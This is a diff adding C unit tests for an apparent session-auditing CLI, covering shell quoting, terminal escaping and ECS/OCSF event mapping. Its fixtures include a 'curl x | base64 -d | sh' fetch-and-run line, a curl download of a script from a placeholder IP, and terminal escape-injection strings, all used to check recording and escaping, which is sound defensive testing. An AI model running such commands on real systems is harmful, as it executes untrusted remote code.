@@ -1,0 +1,414 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+/* Unit tests of the CLI's formatting and of the ECS / OCSF mappings. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "cli/export.h"
+#include "cli/output.h"
+#include "strsafe.h"
+
+static void test_shell_quote(void **state)
+{
+	static const char *const cases[][2] = {
+	    {"ls", "ls"},         {"-la", "-la"},   {"/usr/bin/x", "/usr/bin/x"},
+	    {"", "''"},           {"a b", "'a b'"}, {"it's", "'it'\\''s'"},
+	    {"$HOME", "'$HOME'"}, {"a|b", "'a|b'"}, {"x=1,y:2", "x=1,y:2"},
+	};
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		char *q = sr_shell_quote(cases[i][0]);
+
+		assert_non_null(q);
+		assert_string_equal(q, cases[i][1]);
+		free(q);
+	}
+}
+
+static void test_argv_join(void **state)
+{
+	char *s;
+
+	(void)state;
+	s = sr_argv_join("[\"curl\",\"-s\",\"http://x/y.sh\"]", false);
+	assert_string_equal(s, "curl -s http://x/y.sh");
+	free(s);
+	s = sr_argv_join("[\"sh\",\"-c\",\"curl x | base64 -d | sh\"]", false);
+	assert_string_equal(s, "sh -c 'curl x | base64 -d | sh'");
+	free(s);
+	s = sr_argv_join("[\"echo\",\"\"]", true);
+	assert_string_equal(s, "echo '' \xe2\x80\xa6");
+	free(s);
+	s = sr_argv_join("[]", false);
+	assert_string_equal(s, "");
+	free(s);
+	s = sr_argv_join("not json", false);
+	assert_string_equal(s, "'not json'");
+	free(s);
+}
+
+/* A hostile argv must be inert once joined and escaped for the terminal. */
+static void test_argv_escape(void **state)
+{
+	char *j, *e;
+
+	(void)state;
+	j = sr_argv_join("[\"printf\",\"\\u001b]0;pwned\\u0007\"]", false);
+	assert_non_null(j);
+	e = sr_term_escape(j);
+	assert_non_null(e);
+	assert_null(strchr(e, 0x1b));
+	assert_null(strchr(e, 0x07));
+	assert_string_equal(e, "printf '\\e]0;pwned\\x07'");
+	free(j);
+	free(e);
+	j = sr_argv_join("[\"a\\nb\",\"\\u00c2\\u009b31m\"]", false);
+	e = sr_term_escape(j);
+	assert_null(strchr(e, '\n'));
+	assert_null(strstr(e, "\xc2\x9b"));
+	free(j);
+	free(e);
+}
+
+static void test_duration(void **state)
+{
+	char b[32];
+
+	(void)state;
+	assert_string_equal(sr_fmt_duration(-1, b, sizeof(b)), "-");
+	assert_string_equal(sr_fmt_duration(0, b, sizeof(b)), "0 ms");
+	assert_string_equal(sr_fmt_duration(850, b, sizeof(b)), "850 ms");
+	assert_string_equal(sr_fmt_duration(3250, b, sizeof(b)), "3.2 s");
+	assert_string_equal(sr_fmt_duration(245000, b, sizeof(b)), "4m05s");
+	assert_string_equal(sr_fmt_duration(7380000, b, sizeof(b)), "2h03m");
+	assert_string_equal(sr_fmt_duration(273600000, b, sizeof(b)), "3d04h");
+}
+
+static void test_names(void **state)
+{
+	char b[32];
+
+	(void)state;
+	assert_string_equal(sr_signal_name(9, b, sizeof(b)), "SIGKILL");
+	assert_string_equal(sr_signal_name(15, b, sizeof(b)), "SIGTERM");
+	assert_string_equal(sr_signal_name(11, b, sizeof(b)), "SIGSEGV");
+	assert_string_equal(sr_signal_name(35, b, sizeof(b)), "SIGRTMIN+1");
+	assert_string_equal(sr_signal_name(99, b, sizeof(b)), "SIG99");
+	assert_string_equal(sr_errno_name(2, b, sizeof(b)), "ENOENT");
+	assert_string_equal(sr_errno_name(13, b, sizeof(b)), "EACCES");
+	assert_string_equal(sr_errno_name(100000, b, sizeof(b)), "E100000");
+}
+
+static void test_table(void **state)
+{
+	static const char *head[] = {"A", "LONGER"};
+	const char *r1[] = {"x\033[31m", "1"}, *r2[] = {"\xc3\xa9t\xc3\xa9", NULL};
+	struct sr_table t;
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&buf, &len);
+
+	(void)state;
+	assert_int_equal(sr_table_init(&t, 2, head), 0);
+	assert_int_equal(sr_table_add(&t, r1), 0);
+	assert_int_equal(sr_table_add(&t, r2), 0);
+	sr_table_print(&t, f, false);
+	sr_table_free(&t);
+	fclose(f);
+	/* escaped cell is 7 columns wide ("x\e[31m"); é counts one column */
+	assert_string_equal(buf, "A        LONGER\n"
+	                         "x\\e[31m  1\n"
+	                         "\xc3\xa9t\xc3\xa9      -\n");
+	free(buf);
+}
+
+/* ---- ECS / OCSF ---- */
+
+static const char rec_command[] =
+    "{\"event\":\"session.command\",\"code\":\"T4000I\",\"time\":\"2026-01-05T08:00:01.500000Z\","
+    "\"ei\":3,\"uid\":\"0b6f1d1e-8a43-4c5e-9d57-2b5f4c1a0e11\",\"sid\":"
+    "\"019b8d3a-1f00-7000-8000-000000000001\",\"server_id\":\"srv-1\",\"server_hostname\":"
+    "\"bastion-1\",\"login\":\"alice\",\"user\":\"SHA256:abc\",\"cgroup_id\":7,"
+    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"curl\",\"path\":"
+    "\"/usr/bin/curl\",\"argv\":[\"curl\",\"-s\",\"http://203.0.113.10/x.sh\"],"
+    "\"argv_truncated\":false,\"return_code\":0,\"cwd\":\"/home/alice\",\"proc_uid\":1000,"
+    "\"proc_gid\":1000,\"proc_euid\":1000,\"proc_egid\":1000,\"process_id\":12,"
+    "\"parent_process_id\":11}";
+static const char rec_exit[] =
+    "{\"event\":\"session.process_exit\",\"code\":\"SR4010I\",\"time\":"
+    "\"2026-01-05T08:00:02Z\",\"ei\":5,\"uid\":\"u5\",\"sid\":\"s1\",\"server_id\":\"srv-1\","
+    "\"server_hostname\":\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
+    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"sleep\","
+    "\"exit_code\":null,\"signal\":9,\"duration_ms\":500,\"process_id\":12}";
+static const char rec_disk[] =
+    "{\"event\":\"session.disk\",\"code\":\"T4001I\",\"time\":\"2026-01-05T08:00:01.6Z\","
+    "\"ei\":4,\"uid\":\"u4\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
+    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
+    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"curl\",\"path\":"
+    "\"/etc/ssl/certs/ca.crt\",\"flags\":524288,\"flags_text\":\"O_RDONLY|O_CLOEXEC\","
+    "\"mode\":0,\"return_code\":-13,\"path_resolved\":false,\"process_id\":12}";
+static const char rec_net[] =
+    "{\"event\":\"session.network\",\"code\":\"T4002I\",\"time\":\"2026-01-05T08:00:01.7Z\","
+    "\"ei\":6,\"uid\":\"u6\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
+    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
+    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"curl\",\"src_addr\":"
+    "\"10.0.0.4\",\"src_port\":41000,\"dst_addr\":\"203.0.113.10\",\"dst_port\":80,"
+    "\"version\":4,\"operation\":\"connect\",\"result\":\"established\",\"process_id\":12}";
+static const char rec_start[] =
+    "{\"event\":\"session.start\",\"code\":\"T2000I\",\"time\":\"2026-01-05T08:00:00Z\","
+    "\"ei\":0,\"uid\":\"u0\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
+    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
+    "\"audit_session_id\":4,\"pid\":1990,\"ppid\":1,\"program\":\"sshd\"}";
+
+static struct sr_session_row test_sess = {
+    .id = 1,
+    .sid = "019b8d3a-1f00-7000-8000-000000000001",
+    .login = "alice",
+    .remote_addr = "192.0.2.7",
+    .remote_port = 50022,
+    .local_addr = "10.0.0.4",
+    .local_port = 22,
+    .tty = "/dev/pts/1",
+    .leader_pid = 1990,
+    .start_us = 1767600000000000LL,
+    .key_fingerprint = "SHA256:abc",
+};
+static struct sr_exp_proc test_proc = {
+    .id = 12,
+    .path = "/usr/bin/curl",
+    .argv_json = "[\"curl\",\"-s\",\"http://203.0.113.10/x.sh\"]",
+    .cwd = "/home/alice",
+    .pid = 2001,
+    .ppid = 2000,
+    .start_us = 1767600001500000LL,
+};
+
+/* Look up a dotted path ("process.entry_leader.entity_id") in @p o. */
+static json_object *path_get(json_object *o, const char *path)
+{
+	char buf[256], *tok, *save = NULL;
+
+	snprintf(buf, sizeof(buf), "%s", path);
+	for (tok = strtok_r(buf, ".", &save); tok && o; tok = strtok_r(NULL, ".", &save)) {
+		json_object *v = NULL;
+
+		/* "@timestamp" and keys with dots are looked up whole first */
+		if (!json_object_object_get_ex(o, tok, &v))
+			return NULL;
+		o = v;
+	}
+	return o;
+}
+
+static void require_fields(json_object *doc, const char *const *fields, const char *what)
+{
+	size_t i;
+
+	for (i = 0; fields[i]; i++) {
+		if (!path_get(doc, fields[i]))
+			fail_msg("%s: required field %s missing in %s", what, fields[i],
+			         json_object_to_json_string(doc));
+	}
+}
+
+static json_object *map(const char *rec, int fmt, bool *unmapped)
+{
+	struct sr_exp_ctx ctx = {.sess = &test_sess, .proc = &test_proc};
+	json_object *r = json_tokener_parse(rec), *d;
+
+	assert_non_null(r);
+	*unmapped = false;
+	d = fmt == 0 ? sr_ecs_map(r, &ctx) : sr_ocsf_map(r, &ctx, unmapped);
+	json_object_put(r);
+	return d;
+}
+
+/* ECS fields every document carries, and per category. */
+static const char *const ecs_base[] = {"@timestamp",
+                                       "ecs.version",
+                                       "event.kind",
+                                       "event.category",
+                                       "event.type",
+                                       "event.action",
+                                       "event.code",
+                                       "event.id",
+                                       "host.hostname",
+                                       "host.id",
+                                       "user.name",
+                                       "related.user",
+                                       "process.entry_leader.entity_id",
+                                       "process.entry_leader.user.name",
+                                       "process.entry_leader.entry_meta.type",
+                                       "process.entry_leader.entry_meta.source.ip",
+                                       NULL};
+static const char *const ecs_process[] = {"process.pid",
+                                          "process.ppid",
+                                          "process.parent.pid",
+                                          "process.name",
+                                          "process.executable",
+                                          "process.args",
+                                          "process.args_count",
+                                          "process.command_line",
+                                          "process.working_directory",
+                                          "process.entity_id",
+                                          NULL};
+static const char *const ecs_file[] = {"file.path", "file.name", "file.directory", "process.pid",
+                                       NULL};
+static const char *const ecs_network[] = {
+    "source.ip",  "source.port", "destination.ip", "destination.port", "network.transport",
+    "related.ip", NULL};
+
+static void test_ecs(void **state)
+{
+	bool un;
+	json_object *d, *v;
+
+	(void)state;
+	d = map(rec_command, 0, &un);
+	require_fields(d, ecs_base, "ecs command");
+	require_fields(d, ecs_process, "ecs command");
+	assert_string_equal(json_object_get_string(path_get(d, "event.category")),
+	                    "[ \"process\" ]");
+	assert_string_equal(json_object_get_string(path_get(d, "process.entry_leader.entity_id")),
+	                    test_sess.sid);
+	assert_string_equal(
+	    json_object_get_string(path_get(d, "process.entry_leader.entry_meta.type")), "sshd");
+	assert_int_equal(json_object_get_int(path_get(d, "process.args_count")), 3);
+	assert_string_equal(json_object_get_string(path_get(d, "@timestamp")),
+	                    "2026-01-05T08:00:01.500000Z");
+	json_object_put(d);
+
+	d = map(rec_exit, 0, &un);
+	require_fields(d, ecs_base, "ecs exit");
+	require_fields(d, ecs_process, "ecs exit");
+	v = path_get(d, "process.exit_code");
+	assert_non_null(v);
+	assert_int_equal(json_object_get_int(v), 137);
+	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "failure");
+	json_object_put(d);
+
+	d = map(rec_disk, 0, &un);
+	require_fields(d, ecs_base, "ecs disk");
+	require_fields(d, ecs_file, "ecs disk");
+	assert_string_equal(json_object_get_string(path_get(d, "file.directory")),
+	                    "/etc/ssl/certs");
+	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "failure");
+	json_object_put(d);
+
+	d = map(rec_net, 0, &un);
+	require_fields(d, ecs_base, "ecs network");
+	require_fields(d, ecs_network, "ecs network");
+	assert_int_equal(json_object_get_int(path_get(d, "destination.port")), 80);
+	json_object_put(d);
+
+	d = map(rec_start, 0, &un);
+	require_fields(d, ecs_base, "ecs start");
+	assert_string_equal(json_object_get_string(path_get(d, "source.ip")), "192.0.2.7");
+	json_object_put(d);
+}
+
+/* OCSF 1.1 required attributes per class (and of the objects they hold). */
+static const char *const ocsf_1007[] = {"activity_id",
+                                        "actor",
+                                        "category_uid",
+                                        "class_uid",
+                                        "metadata",
+                                        "process",
+                                        "severity_id",
+                                        "time",
+                                        "type_uid",
+                                        "metadata.version",
+                                        "metadata.product.vendor_name",
+                                        "metadata.product.name",
+                                        NULL};
+static const char *const ocsf_1001[] = {"activity_id",
+                                        "actor",
+                                        "category_uid",
+                                        "class_uid",
+                                        "file",
+                                        "file.name",
+                                        "file.type_id",
+                                        "metadata",
+                                        "severity_id",
+                                        "time",
+                                        "type_uid",
+                                        "metadata.version",
+                                        "metadata.product.vendor_name",
+                                        NULL};
+static const char *const ocsf_4001[] = {"activity_id",
+                                        "category_uid",
+                                        "class_uid",
+                                        "dst_endpoint",
+                                        "src_endpoint",
+                                        "metadata",
+                                        "severity_id",
+                                        "time",
+                                        "type_uid",
+                                        "metadata.version",
+                                        "metadata.product.vendor_name",
+                                        NULL};
+
+static void check_ocsf(json_object *d, int cls, int cat, int act)
+{
+	assert_int_equal(json_object_get_int(path_get(d, "class_uid")), cls);
+	assert_int_equal(json_object_get_int(path_get(d, "category_uid")), cat);
+	assert_int_equal(json_object_get_int(path_get(d, "activity_id")), act);
+	assert_int_equal(json_object_get_int64(path_get(d, "type_uid")), (int64_t)cls * 100 + act);
+	assert_int_equal(json_object_get_int(path_get(d, "severity_id")), 1);
+}
+
+static void test_ocsf(void **state)
+{
+	bool un;
+	json_object *d;
+
+	(void)state;
+	d = map(rec_command, 1, &un);
+	assert_non_null(d);
+	require_fields(d, ocsf_1007, "ocsf 1007 launch");
+	check_ocsf(d, 1007, 1, 1);
+	assert_int_equal(json_object_get_int64(path_get(d, "time")), 1767600001500LL);
+	assert_string_equal(json_object_get_string(path_get(d, "process.cmd_line")),
+	                    "curl -s http://203.0.113.10/x.sh");
+	json_object_put(d);
+
+	d = map(rec_exit, 1, &un);
+	require_fields(d, ocsf_1007, "ocsf 1007 terminate");
+	check_ocsf(d, 1007, 1, 2);
+	assert_int_equal(json_object_get_int(path_get(d, "exit_code")), 137);
+	json_object_put(d);
+
+	d = map(rec_disk, 1, &un);
+	require_fields(d, ocsf_1001, "ocsf 1001");
+	check_ocsf(d, 1001, 1, 14);
+	assert_int_equal(json_object_get_int(path_get(d, "status_id")), 2);
+	json_object_put(d);
+
+	d = map(rec_net, 1, &un);
+	require_fields(d, ocsf_4001, "ocsf 4001");
+	check_ocsf(d, 4001, 4, 1);
+	assert_string_equal(json_object_get_string(path_get(d, "dst_endpoint.ip")), "203.0.113.10");
+	json_object_put(d);
+
+	d = map(rec_start, 1, &un);
+	assert_null(d);
+	assert_true(un);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test(test_shell_quote), cmocka_unit_test(test_argv_join),
+	    cmocka_unit_test(test_argv_escape), cmocka_unit_test(test_duration),
+	    cmocka_unit_test(test_names),       cmocka_unit_test(test_table),
+	    cmocka_unit_test(test_ecs),         cmocka_unit_test(test_ocsf),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
